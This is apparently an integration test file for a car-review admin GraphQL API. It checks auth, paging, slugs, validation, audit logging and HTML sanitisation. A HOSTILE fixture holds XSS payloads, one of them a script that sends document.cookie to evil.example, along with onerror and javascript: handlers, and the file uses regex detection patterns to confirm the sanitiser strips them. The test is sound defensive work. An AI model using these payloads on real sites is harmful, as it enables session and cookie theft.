import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  CATEGORY_UNKNOWN_MESSAGE,
  categoryInUseMessage,
  reviewRequired,
  SLUG_MESSAGE,
  SLUG_TAKEN_MESSAGE,
  THUMBNAIL_IMAGE_MESSAGE,
  VIDEO_LINK_MESSAGE,
} from '../../src/rules/reviews';
import {
  DATABASES,
  DUMMY_UUID,
  errorCodes,
  sqlRows,
  startTestApp,
  type GqlResult,
  type TestApp,
} from './helpers';

const META = 'meta { itemCount totalItems itemsPerPage totalPages currentPage next previous }';
const REVIEW = /* GraphQL */ `
  id nameVi nameEn slug descriptionVi descriptionEn contentVi contentEn category modelIds mediaIds thumnail
  isActive createdAt
  categories { id nameVi nameEn total }
  carModels { id name brandMeta { id name } }
  medias { id mimeType }
  thumnailMedia { id filePathOriginal }
`;
const LIST = `query ($skip: Int, $take: Int, $keyword: String, $category: ID) {
  adminGetListReviews(skip: $skip, take: $take, keyword: $keyword, category: $category) { ${META} items { ${REVIEW} } } }`;
const DETAIL = `query ($id: ID!) { adminGetReviewDetail(id: $id) { ${REVIEW} } }`;
const CREATE = `mutation ($input: AdminReviewInput!) { adminCreateReview(input: $input) { ${REVIEW} } }`;
const EDIT = `mutation ($id: ID!, $input: AdminReviewInput!) { adminEditReview(id: $id, input: $input) { ${REVIEW} } }`;
const DELETE = `mutation ($id: ID!) { adminDeleteReview(id: $id) }`;
const STATUS = `mutation ($id: ID!, $active: Boolean!) { adminChangeStatusReview(input: { id: $id, active: $active }) { id isActive } }`;

const CATEGORY = 'id nameVi nameEn slug isActive total';
const CATEGORIES = `{ adminGetReviewsCatetories { ${CATEGORY} } }`;
const CATEGORY_LIST = `query ($skip: Int, $take: Int, $keyword: String) {
  adminGetListReviewCategories(skip: $skip, take: $take, keyword: $keyword) { ${META} items { ${CATEGORY} } } }`;
const CATEGORY_DETAIL = `query ($id: ID!) { adminGetReviewCategoryDetail(id: $id) { ${CATEGORY} } }`;
const CATEGORY_CREATE = `mutation ($input: AdminReviewCategoryInput!) { adminCreateReviewCategory(input: $input) { ${CATEGORY} } }`;
const CATEGORY_EDIT = `mutation ($id: ID!, $input: AdminReviewCategoryInput!) { adminEditReviewCategory(id: $id, input: $input) { ${CATEGORY} } }`;
const CATEGORY_DELETE = `mutation ($id: ID!) { adminDeleteReviewCategory(id: $id) }`;
const CATEGORY_STATUS = `mutation ($id: ID!, $active: Boolean!) { adminChangeStatusReviewCategory(input: { id: $id, active: $active }) { id isActive } }`;

const VIDEO = 'id title description linkVideo slug createdAt updatedAt';
const VIDEO_LIST = `query ($skip: Int, $take: Int, $keyword: String) {
  adminGetListReviewVideos(skip: $skip, take: $take, keyword: $keyword) { ${META} items { ${VIDEO} } } }`;
const VIDEO_DETAIL = `query ($id: ID, $slug: String) { adminGetReviewVideoDetail(id: $id, slug: $slug) { ${VIDEO} } }`;
const VIDEO_CREATE = `mutation ($input: AdminReviewVideoInput!) { adminCreateReviewVideos(input: $input) { ${VIDEO} } }`;
const VIDEO_EDIT = `mutation ($id: ID!, $input: AdminReviewVideoInput!) { adminEditReviewVideos(id: $id, input: $input) { ${VIDEO} } }`;
const VIDEO_DELETE = `mutation ($id: ID!) { adminDeleteReviewVideos(id: $id) }`;

interface Meta {
  itemCount: number;
  totalItems: number;
  itemsPerPage: number;
  totalPages: number;
  currentPage: number;
  next: number | null;
  previous: number | null;
}
interface Category {
  id: string;
  nameVi: string;
  nameEn: string;
  slug: string;
  isActive: boolean;
  total: number;
}
interface Review {
  id: string;
  nameVi: string;
  nameEn: string;
  slug: string;
  descriptionVi: string | null;
  descriptionEn: string | null;
  contentVi: string | null;
  contentEn: string | null;
  category: string | null;
  modelIds: string[];
  mediaIds: string[];
  thumnail: string | null;
  isActive: boolean;
  createdAt: string;
  categories: Category[];
  carModels: { id: string; name: string; brandMeta: { id: string; name: string } | null }[];
  medias: { id: string; mimeType: string }[];
  thumnailMedia: { id: string; filePathOriginal: string } | null;
}
interface Video {
  id: string;
  title: string;
  description: string | null;
  linkVideo: string;
  slug: string;
  createdAt: string;
  updatedAt: string;
}

const HOSTILE = [
  '<h2 onclick="steal()">Tiêu đề</h2>',
  '<p style="position:fixed;inset:0;z-index:9999">Phủ màn hình</p>',
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<style>body{display:none}</style>',
  '<img src="x" onerror="alert(1)">',
  '<a href="javascript:alert(1)">bấm</a>',
  '<a href="JaVaScRiPt&#58;alert(2)">bấm 2</a>',
  '<iframe src="https://evil.example/embed"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" srcdoc="<script>x</script>"></iframe>',
  '<svg><script>alert(3)</script></svg>',
  '<p>Nội dung <strong>thật</strong></p>',
].join('');

describe.each(DATABASES)('reviews, review categories and review videos on $name', (engine) => {
  let t: TestApp;
  let token: string;
  let categories: Category[];
  let modelId: string;
  let image: { id: string; path: string };
  let clip: { id: string; path: string } | undefined;

  beforeAll(async () => {
    t = await startTestApp(engine);
    token = await t.login();
    categories = await ok<Category[]>(CATEGORIES, {}, 'adminGetReviewsCatetories');
    const [model] = await sqlRows<{ id: string }>(t.db, sql`select id from models order by name limit 1`);
    if (!model) throw new Error('the demo data needs car models');
    modelId = model.id;
    const [img] = await sqlRows<{ id: string; path: string }>(
      t.db,
      sql`select id, file_path_original as path from media where mime_type like 'image/%' and not is_deleted limit 1`,
    );
    if (!img) throw new Error('the demo data needs an image');
    image = img;
    [clip] = await sqlRows<{ id: string; path: string }>(
      t.db,
      sql`select id, file_path_original as path from media where mime_type = 'video/mp4' and file_path_original like '/media/%' limit 1`,
    );
  }, 180_000);
  afterAll(async () => {
    await t?.close();
  });

  const gql = (query: string, variables: Record<string, unknown> = {}) => t.gql(query, variables, { token });
  async function ok<T>(query: string, variables: Record<string, unknown>, field: string): Promise<T> {
    const res = await gql(query, variables);
    expect(res.body.errors, JSON.stringify(res.body.errors)).toBeUndefined();
    return res.body.data?.[field] as T;
  }
  const refusal = (body: GqlResult) => ({
    code: body.errors?.[0]?.extensions?.code,
    field: body.errors?.[0]?.extensions?.field,
    message: body.errors?.[0]?.message,
  });
  const auditActions = async (id: string) =>
    (
      await sqlRows<{ action: string }>(
        t.db,
        sql`select action from audit_logs where entity_id = ${id} order by action`,
      )
    ).map((r) => r.action);
  const stored = async (id: string) =>
    (
      await sqlRows<{ content_vi: string | null; content_en: string | null; slug: string }>(
        t.db,
        sql`select content_vi, content_en, slug from reviews where id = ${id}`,
      )
    )[0];
  const firstCategory = () => {
    const c = categories[0];
    if (!c) throw new Error('no category');
    return c;
  };
  const input = (over: Record<string, unknown> = {}) => ({
    nameVi: 'Đánh giá Đường phố: xe điện đô thị',
    nameEn: 'City EV review',
    descriptionVi: 'Mô tả',
    descriptionEn: 'Description',
    contentVi: '<p>Nội dung</p>',
    contentEn: '<p>Content</p>',
    category: firstCategory().id,
    modelIds: [modelId],
    mediaIds: [image.id],
    thumnail: image.id,
    ...over,
  });

  describe('the guard', () => {
    it('refuses every review operation without a signed-in admin', async () => {
      const calls: [string, Record<string, unknown>][] = [
        [LIST, {}],
        [DETAIL, { id: DUMMY_UUID }],
        [CREATE, { input: input() }],
        [EDIT, { id: DUMMY_UUID, input: input() }],
        [DELETE, { id: DUMMY_UUID }],
        [STATUS, { id: DUMMY_UUID, active: true }],
        [CATEGORIES, {}],
        [CATEGORY_LIST, {}],
        [CATEGORY_DETAIL, { id: DUMMY_UUID }],
        [CATEGORY_CREATE, { input: { nameVi: 'a', nameEn: 'b' } }],
        [CATEGORY_EDIT, { id: DUMMY_UUID, input: { nameVi: 'a', nameEn: 'b' } }],
        [CATEGORY_DELETE, { id: DUMMY_UUID }],
        [CATEGORY_STATUS, { id: DUMMY_UUID, active: true }],
        [VIDEO_LIST, {}],
        [VIDEO_DETAIL, { id: DUMMY_UUID }],
        [VIDEO_CREATE, { input: { title: 'a', linkVideo: 'https://youtu.be/dQw4w9WgXcQ' } }],
        [VIDEO_EDIT, { id: DUMMY_UUID, input: { title: 'a', linkVideo: 'https://youtu.be/dQw4w9WgXcQ' } }],
        [VIDEO_DELETE, { id: DUMMY_UUID }],
      ];
      const before = await sqlRows<{ n: number }>(t.db, sql`select count(*)::int as n from audit_logs`);
      for (const [query, variables] of calls) {
        const res = await t.gql(query, variables);
        expect(errorCodes(res.body), query).toEqual(['UNAUTHENTICATED']);
        expect(res.body.data ?? null, query).toBeNull();
      }
      const after = await sqlRows<{ n: number }>(t.db, sql`select count(*)::int as n from audit_logs`);
      expect(after[0]?.n).toBe(before[0]?.n);
    });
  });

  describe('adminGetListReviews', () => {
    it('pages the demo reviews newest first, each with its category, over at least two pages', async () => {
      const first = await ok<{ meta: Meta; items: Review[] }>(
        LIST,
        { skip: 1, take: 10 },
        'adminGetListReviews',
      );
      expect(first.meta.totalPages).toBeGreaterThanOrEqual(2);
      expect(first.meta).toMatchObject({
        itemsPerPage: 10,
        currentPage: 1,
        itemCount: 10,
        previous: null,
        next: 2,
      });
      const times = first.items.map((r) => Date.parse(r.createdAt));
      expect(times).toEqual([...times].sort((a, b) => b - a));
      for (const r of first.items) {
        expect(r.categories.map((c) => c.id)).toEqual(r.category ? [r.category] : []);
        expect(r.contentVi).toMatch(/<h2>/);
      }
      // Some demo reviews wait for their English: no EN title or content.
      const all = await ok<{ items: Review[] }>(LIST, { take: 1000 }, 'adminGetListReviews');
      expect(all.items.some((r) => r.nameEn === '' && r.contentEn === null)).toBe(true);
      expect(all.items.some((r) => r.thumnailMedia !== null)).toBe(true);
    });

    it('filters by category and by title words, ignoring case and accents', async () => {
      const category = firstCategory();
      const byCategory = await ok<{ meta: Meta; items: Review[] }>(
        LIST,
        { take: 1000, category: category.id },
        'adminGetListReviews',
      );
      expect(byCategory.meta.totalItems).toBe(category.total);
      expect(byCategory.items.every((r) => r.category === category.id)).toBe(true);

      const [sample] = await sqlRows<{ name_vi: string }>(
        t.db,
        sql`select name_vi from reviews order by created_at limit 1`,
      );
      const word = sample?.name_vi.split(' ')[0] ?? '';
      const folded = word
        .normalize('NFD')
        .replace(/[\u0300-\u036f]/g, '')
        .replace(/[đĐ]/g, 'd')
        .toUpperCase();
      const byWord = await ok<{ items: Review[] }>(
        LIST,
        { take: 1000, keyword: `  ${folded} ` },
        'adminGetListReviews',
      );
      expect(byWord.items.length).toBeGreaterThan(0);
      expect(byWord.items.some((r) => r.nameVi === sample?.name_vi)).toBe(true);
      const none = await ok<{ meta: Meta }>(LIST, { keyword: 'zzqx-not-a-title' }, 'adminGetListReviews');
      expect(none.meta.totalItems).toBe(0);
    });

    it('refuses a category filter that is not an id', async () => {
      const res = await gql(LIST, { category: 'not-an-id' });
      expect(refusal(res.body)).toMatchObject({ code: 'BAD_USER_INPUT', message: CATEGORY_UNKNOWN_MESSAGE });
    });
  });

  describe('writing a review', () => {
    it('creates a review with a slug from the VI name (đ → d, tones dropped) and reads it back', async () => {
      const review = await ok<Review>(CREATE, { input: input() }, 'adminCreateReview');
      expect(review.slug).toBe('danh-gia-duong-pho-xe-dien-do-thi');
      expect(review).toMatchObject({ nameVi: input().nameVi, nameEn: 'City EV review', isActive: true });
      expect(review.carModels.map((m) => m.id)).toEqual([modelId]);
      expect(review.carModels[0]?.brandMeta?.name).toBeTruthy();
      expect(review.medias.map((m) => m.id)).toEqual([image.id]);
      expect(review.thumnailMedia).toEqual({ id: image.id, filePathOriginal: image.path });
      expect(review.categories[0]?.id).toBe(firstCategory().id);
      const again = await ok<Review>(DETAIL, { id: review.id }, 'adminGetReviewDetail');
      expect(again).toEqual(review);
      expect(await auditActions(review.id)).toEqual(['review.create']);

      // The same name again takes the next free slug.
      const twin = await ok<Review>(CREATE, { input: input() }, 'adminCreateReview');
      expect(twin.slug).toBe('danh-gia-duong-pho-xe-dien-do-thi-2');
    });

    it('takes a slug typed before the first save, refuses a taken or malformed one, and keeps it on edit', async () => {
      const review = await ok<Review>(
        CREATE,
        { input: input({ slug: 'xe-dien-cua-toi' }) },
        'adminCreateReview',
      );
      expect(review.slug).toBe('xe-dien-cua-toi');
      const taken = await gql(CREATE, { input: input({ slug: 'xe-dien-cua-toi' }) });
      expect(refusal(taken.body)).toEqual({
        code: 'BAD_USER_INPUT',
        field: 'slug',
        message: SLUG_TAKEN_MESSAGE,
      });
      const bad = await gql(CREATE, { input: input({ slug: 'Xe Điện!' }) });
      expect(refusal(bad.body)).toMatchObject({
        code: 'BAD_USER_INPUT',
        field: 'slug',
        message: SLUG_MESSAGE,
      });

      const edited = await ok<Review>(
        EDIT,
        { id: review.id, input: input({ nameVi: 'Tên mới hoàn toàn', slug: 'doi-slug' }) },
        'adminEditReview',
      );
      expect(edited.nameVi).toBe('Tên mới hoàn toàn');
      expect(edited.slug).toBe('xe-dien-cua-toi');
      expect(await auditActions(review.id)).toEqual(['review.create', 'review.edit']);
    });

    it('stores hostile HTML sanitised: no script, handlers, styles, javascript: URLs or foreign iframes', async () => {
      const review = await ok<Review>(
        CREATE,
        { input: input({ contentVi: HOSTILE, contentEn: HOSTILE }) },
        'adminCreateReview',
      );
      const row = await stored(review.id);
      for (const html of [row?.content_vi, row?.content_en, review.contentVi]) {
        expect(html).toBeTruthy();
        expect(html).not.toMatch(
          /<script|<style|<svg|onerror|onclick|style=|javascript:|evil\.example|srcdoc/i,
        );
        expect(html).toContain('<h2>Tiêu đề</h2>');
        expect(html).toContain('<p>Nội dung <strong>thật</strong></p>');
        expect(html).toContain('<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>');
        expect(html).toContain('<a>bấm</a>');
      }
      // An edit is sanitised the same way.
      await ok<Review>(
        EDIT,
        {
          id: review.id,
          input: input({ contentVi: '<p>ok</p><img src=x onerror=alert(1)>', contentEn: null }),
        },
        'adminEditReview',
      );
      const edited = await stored(review.id);
      expect(edited?.content_vi).toBe('<p>ok</p><img src="x" />');
      expect(edited?.content_en).toBeNull();
    });

    it('refuses VI content that is empty or nothing but script, and an unknown category, model or media', async () => {
      const count = async () =>
        (await sqlRows<{ n: number }>(t.db, sql`select count(*)::int as n from reviews`))[0]?.n;
      const before = await count();
      const empty = await gql(CREATE, { input: input({ contentVi: '<p></p>' }) });
      expect(refusal(empty.body)).toEqual({
        code: 'BAD_USER_INPUT',
        field: 'contentVi',
        message: reviewRequired('Content (VI)'),
      });
      const scriptOnly = await gql(CREATE, { input: input({ contentVi: '<script>alert(1)</script>' }) });
      expect(refusal(scriptOnly.body)).toMatchObject({ code: 'BAD_USER_INPUT', field: 'contentVi' });
      const noName = await gql(CREATE, { input: input({ nameVi: '   ' }) });
      expect(refusal(noName.body)).toMatchObject({ field: 'nameVi', message: reviewRequired('Title (VI)') });
      const category = await gql(CREATE, { input: input({ category: DUMMY_UUID }) });
      expect(refusal(category.body)).toMatchObject({ field: 'category', message: CATEGORY_UNKNOWN_MESSAGE });
      const model = await gql(CREATE, { input: input({ modelIds: [DUMMY_UUID] }) });
      expect(refusal(model.body)).toMatchObject({ code: 'BAD_USER_INPUT', field: 'modelIds' });
      const mediaIds = await gql(CREATE, { input: input({ mediaIds: [DUMMY_UUID] }) });
      expect(refusal(mediaIds.body)).toMatchObject({ code: 'BAD_USER_INPUT', field: 'mediaIds' });
      if (clip) {
        const thumb = await gql(CREATE, { input: input({ thumnail: clip.id }) });
        expect(refusal(thumb.body)).toMatchObject({ field: 'thumnail', message: THUMBNAIL_IMAGE_MESSAGE });
      }
      expect(await count()).toBe(before);
    });

    it('toggles active and deletes, one audit row each', async () => {
      const review = await ok<Review>(CREATE, { input: input() }, 'adminCreateReview');
      const off = await ok<{ isActive: boolean }>(
        STATUS,
        { id: review.id, active: false },
        'adminChangeStatusReview',
      );
      expect(off.isActive).toBe(false);
      // The same state again writes nothing.
      await ok(STATUS, { id: review.id, active: false }, 'adminChangeStatusReview');
      expect(await ok<boolean>(DELETE, { id: review.id }, 'adminDeleteReview')).toBe(true);
      expect(await auditActions(review.id)).toEqual(
        ['review.create', 'review.trash', 'review.update_status'].sort(),
      );
      const gone = await gql(DETAIL, { id: review.id });
      expect(errorCodes(gone.body)).toEqual(['NOT_FOUND']);
      const again = await gql(DELETE, { id: review.id });
      expect(errorCodes(again.body)).toEqual(['NOT_FOUND']);
    });
  });

  describe('review categories', () => {
    it('lists them with their totals over two pages, and the flat list for pickers', async () => {
      const page = await ok<{ meta: Meta; items: Category[] }>(
        CATEGORY_LIST,
        { skip: 1, take: 10 },
        'adminGetListReviewCategories',
      );
      expect(page.meta.totalItems).toBe(categories.length);
      expect(page.meta.totalPages).toBeGreaterThanOrEqual(2);
      const counts = await sqlRows<{ id: string; n: number }>(
        t.db,
        // Live reviews only: a review in the Trash counts for no category (docs/trash.md).
        sql`select c.id, count(r.id)::int as n from review_categories c
            left join reviews r on r.category = c.id and r.deleted_at is null group by c.id`,
      );
      const total = new Map(counts.map((c) => [c.id, c.n]));
      const fresh = await ok<Category[]>(CATEGORIES, {}, 'adminGetReviewsCatetories');
      for (const c of fresh) expect(c.total, c.nameVi).toBe(total.get(c.id));
      expect(fresh.some((c) => !c.isActive)).toBe(true);
      const search = await ok<{ items: Category[] }>(
        CATEGORY_LIST,
        { keyword: 'XE DIEN' },
        'adminGetListReviewCategories',
      );
      expect(search.items.map((c) => c.nameVi)).toContain('Xe điện');
    });

    it('creates, edits, toggles and deletes an unused category', async () => {
      const c = await ok<Category>(
        CATEGORY_CREATE,
        { input: { nameVi: 'Đua xe', nameEn: 'Racing' } },
        'adminCreateReviewCategory',
      );
      expect(c).toMatchObject({ slug: 'dua-xe', isActive: true, total: 0 });
      const dup = await gql(CATEGORY_CREATE, { input: { nameVi: 'Khác', nameEn: 'Other', slug: 'dua-xe' } });
      expect(refusal(dup.body)).toMatchObject({ field: 'slug', message: SLUG_TAKEN_MESSAGE });
      const edited = await ok<Category>(
        CATEGORY_EDIT,
        { id: c.id, input: { nameVi: 'Đua xe thể thao', nameEn: 'Motorsport' } },
        'adminEditReviewCategory',
      );
      expect(edited).toMatchObject({ nameVi: 'Đua xe thể thao', nameEn: 'Motorsport', slug: 'dua-xe' });
      const off = await ok<{ isActive: boolean }>(
        CATEGORY_STATUS,
        { id: c.id, active: false },
        'adminChangeStatusReviewCategory',
      );
      expect(off.isActive).toBe(false);
      expect(await ok<Category>(CATEGORY_DETAIL, { id: c.id }, 'adminGetReviewCategoryDetail')).toMatchObject(
        { isActive: false },
      );
      expect(await ok<boolean>(CATEGORY_DELETE, { id: c.id }, 'adminDeleteReviewCategory')).toBe(true);
      expect(await auditActions(c.id)).toEqual(
        [
          'review_category.create',
          'review_category.edit',
          'review_category.update_status',
          'review_category.trash',
        ].sort(),
      );
    });

    it('refuses to delete a category that reviews use, saying how many, and the database refuses too', async () => {
      const used = firstCategory();
      const [n] = await sqlRows<{ n: number }>(
        t.db,
        sql`select count(*)::int as n from reviews where category = ${used.id} and deleted_at is null`,
      );
      const res = await gql(CATEGORY_DELETE, { id: used.id });
      expect(refusal(res.body)).toMatchObject({ code: 'CONFLICT', message: categoryInUseMessage(n?.n ?? 0) });
      expect(
        await ok<Category>(CATEGORY_DETAIL, { id: used.id }, 'adminGetReviewCategoryDetail'),
      ).toMatchObject({ id: used.id });
      await expect(t.db.execute(sql`delete from review_categories where id = ${used.id}`)).rejects.toThrow();
    });
  });

  describe('review videos', () => {
    it('pages the demo videos, YouTube links and hosted mp4s, over at least two pages', async () => {
      const page = await ok<{ meta: Meta; items: Video[] }>(
        VIDEO_LIST,
        { take: 1000 },
        'adminGetListReviewVideos',
      );
      expect(page.meta.totalItems).toBeGreaterThan(10);
      expect(page.items.some((v) => v.linkVideo.includes('youtube.com'))).toBe(true);
      // The demo seeds its mp4 clips through the media store, as an upload would be stored.
      expect(clip).toBeDefined();
      expect(page.items.some((v) => v.linkVideo === clip?.path)).toBe(true);
      const first = page.items[0];
      if (!first) throw new Error('no videos');
      const search = await ok<{ items: Video[] }>(
        VIDEO_LIST,
        { keyword: 'DANH GIA NHANH' },
        'adminGetListReviewVideos',
      );
      expect(search.items.length).toBeGreaterThan(0);
      expect(await ok<Video>(VIDEO_DETAIL, { id: first.id }, 'adminGetReviewVideoDetail')).toEqual(first);
      expect(await ok<Video>(VIDEO_DETAIL, { slug: first.slug }, 'adminGetReviewVideoDetail')).toEqual(first);
      const missing = await gql(VIDEO_DETAIL, { slug: 'no-such-video' });
      expect(errorCodes(missing.body)).toEqual(['NOT_FOUND']);
      const notAnId = await gql(VIDEO_DETAIL, { id: 'no-such-video' });
      expect(errorCodes(notAnId.body)).toEqual(['NOT_FOUND']);
    });

    it('checks the link when saved: YouTube in any form, an uploaded mp4, an https video file', async () => {
      for (const linkVideo of [
        'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
        'https://youtu.be/dQw4w9WgXcQ',
        'https://www.youtube.com/shorts/dQw4w9WgXcQ',
        'https://cdn.example.vn/clip.mp4',
        ...(clip ? [clip.path] : []),
      ]) {
        const v = await ok<Video>(
          VIDEO_CREATE,
          { input: { title: 'Thử link', linkVideo } },
          'adminCreateReviewVideos',
        );
        expect(v.linkVideo).toBe(linkVideo);
      }
      for (const linkVideo of [
        'javascript:alert(1)',
        'https://example.com/a-web-page',
        'http://cdn.example.vn/clip.mp4',
        'https://www.youtube.com/watch?v=short',
        'not a link',
        image.path,
        '/media/2026/01/nothing-here.mp4',
      ]) {
        const res = await gql(VIDEO_CREATE, { input: { title: 'Sai link', linkVideo } });
        expect(refusal(res.body), linkVideo).toEqual({
          code: 'BAD_USER_INPUT',
          field: 'linkVideo',
          message: VIDEO_LINK_MESSAGE,
        });
      }
    });

    it('creates with a slug from the title, follows a new title on edit, and deletes', async () => {
      const v = await ok<Video>(
        VIDEO_CREATE,
        {
          input: {
            title: 'Lái thử Đồng Nai',
            description: 'Mô tả',
            linkVideo: 'https://youtu.be/dQw4w9WgXcQ',
          },
        },
        'adminCreateReviewVideos',
      );
      expect(v.slug).toBe('lai-thu-dong-nai');
      const same = await ok<Video>(
        VIDEO_EDIT,
        {
          id: v.id,
          input: { title: 'Lái thử Đồng Nai', description: null, linkVideo: 'https://youtu.be/dQw4w9WgXcQ' },
        },
        'adminEditReviewVideos',
      );
      expect(same).toMatchObject({ slug: 'lai-thu-dong-nai', description: null });
      const renamed = await ok<Video>(
        VIDEO_EDIT,
        { id: v.id, input: { title: 'Lái thử Bình Dương', linkVideo: 'https://youtu.be/dQw4w9WgXcQ' } },
        'adminEditReviewVideos',
      );
      expect(renamed.slug).toBe('lai-thu-binh-duong');
      expect(await ok<boolean>(VIDEO_DELETE, { id: v.id }, 'adminDeleteReviewVideos')).toBe(true);
      expect(await auditActions(v.id)).toEqual(
        ['review_video.create', 'review_video.edit', 'review_video.edit', 'review_video.trash'].sort(),
      );
      const gone = await gql(VIDEO_DETAIL, { id: v.id });
      expect(errorCodes(gone.body)).toEqual(['NOT_FOUND']);
    });
  });
});
